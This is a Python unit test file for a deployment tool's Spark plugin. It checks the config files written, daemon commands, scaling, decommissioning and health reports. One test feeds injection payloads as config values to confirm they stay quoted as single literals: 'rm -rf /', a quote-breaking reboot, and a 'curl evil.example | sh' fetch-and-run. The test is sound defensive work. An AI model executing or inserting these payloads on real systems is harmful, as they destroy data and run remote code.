"""The Spark plugin's steps, through the recording fake: files, commands and their order."""

from __future__ import annotations

import shlex
import unittest
from typing import Any

from heatdeploy.plugin.daemons import DAEMON_SCRIPT
from heatdeploy.plugin.instance import Instance
from heatdeploy.plugins.spark import SPARK
from heatdeploy.plugins.spark.steps import CONF_DIR, MASTER_CLASS, WORKER_CLASS
from heatdeploy.steps.common import IMAGE_SCRIPT
from heatdeploy.steps.health import run_checks
from heatdeploy.steps.orchestrator import StepsFailed
from heatdeploy.testing import Responses, make_cluster, run_operation
from tests.unit.helpers import SPARK_SPEC, actions, named, prepared

MASTER, WORKER0, WORKER1, WORKER2 = "demo-master-0", "demo-worker-0", "demo-worker-1", "demo-worker-2"
STATE = "/var/lib/heatdeploy/spark"
ENV, DEFAULTS, WORKERS = f"{CONF_DIR}/spark-env.sh", f"{CONF_DIR}/spark-defaults.conf", f"{CONF_DIR}/workers"
MKDIR = ["mkdir", "-p", f"{STATE}/run", f"{STATE}/work", f"{STATE}/tmp", f"{STATE}/local"]
STATUS = (8080, "/json/")
IMAGE_CHECK = ["sh", "-c", IMAGE_SCRIPT, "sh", "command", "bash", "command", "setsid",
               "path", "/opt/spark/bin/spark-class", "path", "/opt/spark/bin/spark-submit", "java", "java"]


def master_reports(*alive: str, status: str = "ALIVE") -> Responses:
    """The master's status page, listing workers at ``alive`` IPs."""
    workers = [{"host": ip, "state": "ALIVE"} for ip in alive] + [{"host": "10.9.9.9", "state": "DEAD"}]
    return Responses(http={STATUS: {"status": status, "workers": workers}})




CONFIGURED = [("write", ENV, 0o755), ("write", DEFAULTS, 0o644), ("write", WORKERS, 0o644), ("run", MKDIR)]


def daemon(action: str, name: str, *command: str) -> list[str]:
    """The command that starts, stops or checks the master or a worker."""
    return ["sh", "-c", DAEMON_SCRIPT, "heatdeploy-daemon", action, f"{STATE}/run", name, "30", ENV, *command]


def worker_start(ip: str) -> list[str]:
    return daemon("start", "worker", "/opt/spark/bin/spark-class", WORKER_CLASS, "--host", ip, "--port", "7078",
                  "--webui-port", "8081", "spark://10.0.0.10:7077")


def start_worker(ip: str) -> tuple[Any, ...]:
    return ("run", worker_start(ip))


def env_values(text: str) -> dict[str, str]:
    """spark-env.sh as the shell would read it: each line must be exactly one quoted assignment."""
    values = {}
    for line in text.splitlines()[1:]:
        words = shlex.split(line)
        assert len(words) == 2 and words[0] == "export", line
        name, _, value = words[1].partition("=")
        values[name] = value
    return values


class LaunchTest(unittest.TestCase):
    def setUp(self) -> None:
        self.ctx = make_cluster(SPARK_SPEC, SPARK, responses=master_reports("10.0.1.10", "10.0.1.11"))
        run_operation(SPARK, "launch", self.ctx)

    def test_master(self) -> None:
        self.assertEqual(actions(self.ctx, MASTER), [
            *prepared(MASTER, IMAGE_CHECK), *CONFIGURED,
            ("run", daemon("start", "master", "/opt/spark/bin/spark-class", MASTER_CLASS, "--host", "10.0.0.10",
                           "--port", "7077", "--webui-port", "8080")),
            ("run", daemon("status", "master")),  # the process still runs
            ("http", "GET", *STATUS),  # the master is ALIVE
            ("http", "GET", *STATUS),  # both workers are ALIVE
        ])

    def test_a_master_that_exits_fails_at_once_with_its_log(self) -> None:
        def status(instance, command):  # type: ignore[no-untyped-def]
            if command == shlex.join(daemon("status", "master")):
                return 1
            return "Error: JAVA_HOME is not set" if command.startswith("tail") else 0

        responses = master_reports("10.0.1.10", "10.0.1.11")
        responses.commands = status
        ctx = make_cluster(SPARK_SPEC, SPARK, responses=responses)
        with self.assertRaises(StepsFailed) as caught:
            run_operation(SPARK, "launch", ctx)
        failure = caught.exception.failures[0]
        self.assertEqual((failure.step, failure.instance), ("spark-start-master", MASTER))
        self.assertIn(f"master exited (its log is {STATE}/run/master.log)", failure.message)
        self.assertEqual(failure.output, "Error: JAVA_HOME is not set")

    def test_workers(self) -> None:
        for name, ip in ((WORKER0, "10.0.1.10"), (WORKER1, "10.0.1.11")):
            self.assertEqual(actions(self.ctx, name), [*prepared(name, IMAGE_CHECK), *CONFIGURED, start_worker(ip)])

    def test_workers_start_once_the_master_is_alive_and_are_verified_after(self) -> None:
        entries = self.ctx.recorder.entries()
        alive = entries.index(("wait", "the Spark master reports ALIVE"))
        verified = entries.index(("wait", "every Spark worker registered with the master at spark://10.0.0.10:7077"))
        for name, ip in ((WORKER0, "10.0.1.10"), (WORKER1, "10.0.1.11")):
            started = entries.index(("run", name, worker_start(ip)))
            assert alive < started < verified

    def test_files(self) -> None:
        recorder = self.ctx.recorder
        self.assertEqual(recorder.file(WORKER1, ENV), (
            "# Written by heatdeploy\n"
            "export SPARK_HOME=/opt/spark\n"
            f"export SPARK_CONF_DIR={CONF_DIR}\n"
            "export SPARK_LOCAL_IP=10.0.1.11\n"
            "export SPARK_LOCAL_HOSTNAME=10.0.1.11\n"
            "export SPARK_MASTER_HOST=10.0.0.10\n"
            "export SPARK_MASTER_PORT=7077\n"
            "export SPARK_MASTER_WEBUI_PORT=8080\n"
            "export SPARK_WORKER_PORT=7078\n"
            "export SPARK_WORKER_WEBUI_PORT=8081\n"
            "export SPARK_DAEMON_MEMORY=512m\n"
            f"export SPARK_WORKER_DIR={STATE}/work\n"
            f"export SPARK_LOCAL_DIRS={STATE}/local\n"
            f"export SPARK_DAEMON_JAVA_OPTS='-Djava.io.tmpdir={STATE}/tmp -XX:-UsePerfData'\n"))
        self.assertEqual(recorder.file(MASTER, DEFAULTS), (
            "# Written by heatdeploy\n"
            "spark.master spark://10.0.0.10:7077\n"
            "spark.executor.memory 1g\n"
            "spark.driver.port 7100\n"
            "spark.blockManager.port 7200\n"
            "spark.port.maxRetries 15\n"
            f"spark.local.dir {STATE}/local\n"
            f"spark.driver.extraJavaOptions -Djava.io.tmpdir={STATE}/tmp -XX:-UsePerfData\n"
            "spark.executor.extraJavaOptions -XX:-UsePerfData\n"))
        for name in (MASTER, WORKER0, WORKER1):
            self.assertEqual(recorder.file(name, WORKERS), "10.0.1.10\n10.0.1.11\n")
            self.assertEqual(recorder.file(name, "/etc/hosts"), "127.0.0.1 localhost\n# heatdeploy cluster members\n"
                             "10.0.0.10 demo-master-0\n10.0.1.10 demo-worker-0\n10.0.1.11 demo-worker-1\n")

    def test_volumes_hold_local_dirs(self) -> None:
        spec = SPARK_SPEC + "    volumes: {count: 2, size: 10}\n"
        ctx = make_cluster(spec, SPARK, responses=master_reports("10.0.1.10", "10.0.1.11"))
        run_operation(SPARK, "launch", ctx)
        self.assertEqual(env_values(ctx.recorder.file(WORKER0, ENV) or "")["SPARK_LOCAL_DIRS"],
                         "/volumes/disk1/spark,/volumes/disk2/spark")
        self.assertIn(("run", ["sh", "-c"]), [(e[0], e[2][:2]) for e in ctx.recorder.entries(WORKER0)
                                              if e[0] == "run"])


class ScaleUpTest(unittest.TestCase):
    def test_new_worker(self) -> None:
        spec = SPARK_SPEC.replace("count: 2", "count: 3")
        ctx = make_cluster(spec, SPARK, targets=[WORKER2],
                           responses=master_reports("10.0.1.10", "10.0.1.11", "10.0.1.12"))
        run_operation(SPARK, "scale_up", ctx)
        self.assertEqual(actions(ctx, WORKER2),
                         [*prepared(WORKER2, IMAGE_CHECK), *CONFIGURED, start_worker("10.0.1.12")])
        self.assertEqual(actions(ctx, MASTER), [*named(MASTER), ("write", WORKERS, 0o644), ("http", "GET", *STATUS)])
        self.assertEqual(actions(ctx, WORKER0), named(WORKER0))
        self.assertEqual(ctx.recorder.file(MASTER, WORKERS), "10.0.1.10\n10.0.1.11\n10.0.1.12\n")
        self.assertIn("10.0.1.12 demo-worker-2\n", ctx.recorder.file(WORKER0, "/etc/hosts") or "")

    def test_fails_when_the_new_worker_never_joins(self) -> None:
        spec = SPARK_SPEC.replace("count: 2", "count: 3")
        ctx = make_cluster(spec, SPARK, targets=[WORKER2], responses=master_reports("10.0.1.10", "10.0.1.11"))
        with self.assertRaisesRegex(Exception, r"spark://10.0.0.10:7077: still missing demo-worker-2 "
                                               r"after 120 s; the master's port 7077 and the workers' port 7078"):
            run_operation(SPARK, "scale_up", ctx)


class DecommissionTest(unittest.TestCase):
    def test_one_worker(self) -> None:
        ctx = make_cluster(SPARK_SPEC, SPARK, leaving=[WORKER1], responses=master_reports("10.0.1.10"))
        run_operation(SPARK, "decommission", ctx)
        self.assertEqual(actions(ctx, WORKER1), [("run", daemon("stop", "worker"))])
        self.assertEqual(actions(ctx, MASTER), [("write", WORKERS, 0o644), ("http", "GET", *STATUS)])
        self.assertEqual(actions(ctx, WORKER0), [])
        self.assertEqual(ctx.recorder.file(MASTER, WORKERS), "10.0.1.10\n")
        entries = ctx.recorder.entries()
        self.assertLess(entries.index(("run", WORKER1, daemon("stop", "worker"))),
                        entries.index(("write", MASTER, WORKERS, "10.0.1.10\n", 0o644)))


class QuotingTest(unittest.TestCase):
    def test_hostile_configs_stay_single_values(self) -> None:
        hostile = {"SPARK_DAEMON_MEMORY": "1g; rm -rf /", "SPARK_HOME": "/opt/spark' && reboot '",
                   "SPARK_WORKER_MEMORY": '$(curl evil.example | sh) "`id`"'}
        spec = SPARK_SPEC.replace("network: private", "network: private\nconfigs:\n"
                                  "  daemon_memory: '1g; rm -rf /'\n"
                                  "  spark_home: \"/opt/spark' && reboot '\"\n")
        spec += "    configs: {worker_memory: '$(curl evil.example | sh) \"`id`\"'}\n"
        ctx = make_cluster(spec, SPARK, responses=master_reports("10.0.1.10", "10.0.1.11"))
        run_operation(SPARK, "launch", ctx)
        values = env_values(ctx.recorder.file(WORKER0, ENV) or "")
        self.assertEqual({k: values[k] for k in hostile}, hostile)
        self.assertIn("export SPARK_DAEMON_MEMORY='1g; rm -rf /'\n", ctx.recorder.file(WORKER0, ENV) or "")


class HealthTest(unittest.TestCase):
    def report(self, responses: Responses) -> tuple[str, str]:
        ctx = make_cluster(SPARK_SPEC, SPARK, responses=responses)
        result = run_checks(ctx, SPARK.health_checks())
        check = result.checks["spark-workers"]
        return result.status, check.message

    def test_colours(self) -> None:
        self.assertEqual(self.report(master_reports("10.0.1.10", "10.0.1.11")),
                         ("green", "master ALIVE, 2 of 2 workers alive"))
        self.assertEqual(self.report(master_reports("10.0.1.11")),
                         ("yellow", "1 of 2 workers alive; missing 10.0.1.10"))
        self.assertEqual(self.report(master_reports()), ("red", "no workers alive"))
        self.assertEqual(self.report(master_reports("10.0.1.10", status="STANDBY")),
                         ("red", "master status is STANDBY"))
        self.assertEqual(self.report(Responses(http={STATUS: (500, b"oops")})), ("red", "master status is unknown"))

    def test_endpoints(self) -> None:
        master = Instance("demo-master-0", "id", "master", ("master",), "10.0.0.10", "203.0.113.5", None)
        self.assertEqual(SPARK.endpoints([master]), {"master": "spark://10.0.0.10:7077",
                                                     "master_ui": "http://203.0.113.5:8080"})


if __name__ == "__main__":
    unittest.main()
